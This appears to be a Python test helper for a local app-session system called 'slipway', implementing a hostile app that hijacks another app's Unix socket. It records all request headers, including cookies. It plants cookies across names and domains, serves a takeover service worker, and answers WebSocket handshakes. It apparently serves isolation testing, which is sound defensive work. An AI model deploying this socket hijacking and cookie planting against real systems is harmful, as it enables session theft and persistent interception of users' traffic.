"""A hostile app: listens in place of one of its session's apps and records what it receives.

Run in a kernel of that session; standard library only.
"""

import base64
import hashlib
import json
import os
import socket
import threading

SEEN: list[str] = []
"""The head of every request, verbatim."""

_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
_WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('fetch', (event) => event.respondWith(new Response('evil worker')));
"""
_ANSWERS = {
    "/sw.js": ("text/javascript", _WORKER, ["Service-Worker-Allowed: /"]),
    "/plant": (
        "text/plain",
        "planted",
        [
            f"Set-Cookie: {name}=planted-by-bob; Path=/{domain}"
            for name in ("slipway", "slipway_app", "slipway_app_{port}", "other", "__Host-slipway")
            for domain in (
                "",
                "; Domain=localhost",
                ";domain = .localhost",
                "; Domain=apps.localhost",
                "; DOMAIN=127.0.0.1",
            )
        ],
    ),
}
_PAGE = (
    "text/html",
    "<!doctype html><title>evil</title><body>evil</body>",
    ["Cache-Control: public, max-age=31536000, immutable", "Access-Control-Allow-Origin: *"],
)


def take_over(app: str) -> None:
    """Listen on an app's socket from now on."""
    path = _socket_of(app)
    os.rename(path, f"{path}.real")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(64)
    threading.Thread(target=_serve, args=(server,), daemon=True).start()


def restore(app: str) -> None:
    """Give the socket back to the real app."""
    path = _socket_of(app)
    os.rename(f"{path}.real", path)


def _socket_of(app: str) -> str:
    return os.path.dirname(os.environ["SLIPWAY_RUN"]) + f"/{app}.sock"


def _serve(server: socket.socket) -> None:
    while True:
        stream, _ = server.accept()
        threading.Thread(target=_converse, args=(stream,), daemon=True).start()


def _converse(stream: socket.socket) -> None:
    with stream, stream.makefile("rb") as reader:
        while head := _head(reader):
            SEEN.append(head)
            key = _header(head, "sec-websocket-key")
            if key:
                _websocket(stream, key)
                return
            reader.read(int(_header(head, "content-length") or 0))
            stream.sendall(_answer(head))


def _head(reader) -> str:  # type: ignore[no-untyped-def]
    lines = []
    while (line := reader.readline()) not in (b"\r\n", b""):
        lines.append(line.decode("latin-1"))
    return "".join(lines)


def _header(head: str, name: str) -> str:
    for line in head.splitlines()[1:]:
        known, _, value = line.partition(":")
        if known.lower() == name:
            return value.strip()
    return ""


def _answer(head: str) -> bytes:
    path = head.split()[1].partition("?")[0]
    kind, body, headers = _ANSWERS.get(path, _PAGE)
    if path == "/seen":
        kind, body, headers = "application/json", json.dumps(SEEN), ["Cache-Control: no-store"]
    port = _header(head, "host").rpartition(":")[2]
    lines = ["HTTP/1.1 200 OK", f"Content-Type: {kind}", f"Content-Length: {len(body.encode())}"]
    lines += [line.replace("{port}", port) for line in headers]
    return "\r\n".join([*lines, "", body]).encode()


def _websocket(stream: socket.socket, key: str) -> None:
    accept = base64.b64encode(hashlib.sha1((key + _GUID).encode()).digest()).decode()
    lines = ["HTTP/1.1 101 Switching Protocols", "Upgrade: websocket", "Connection: Upgrade"]
    stream.sendall("\r\n".join([*lines, f"Sec-WebSocket-Accept: {accept}", "", ""]).encode())
    stream.sendall(b"\x81\x05hello")
    while (data := stream.recv(65536)) and data[0] & 0x0F != 0x08:  # until the client closes
        pass
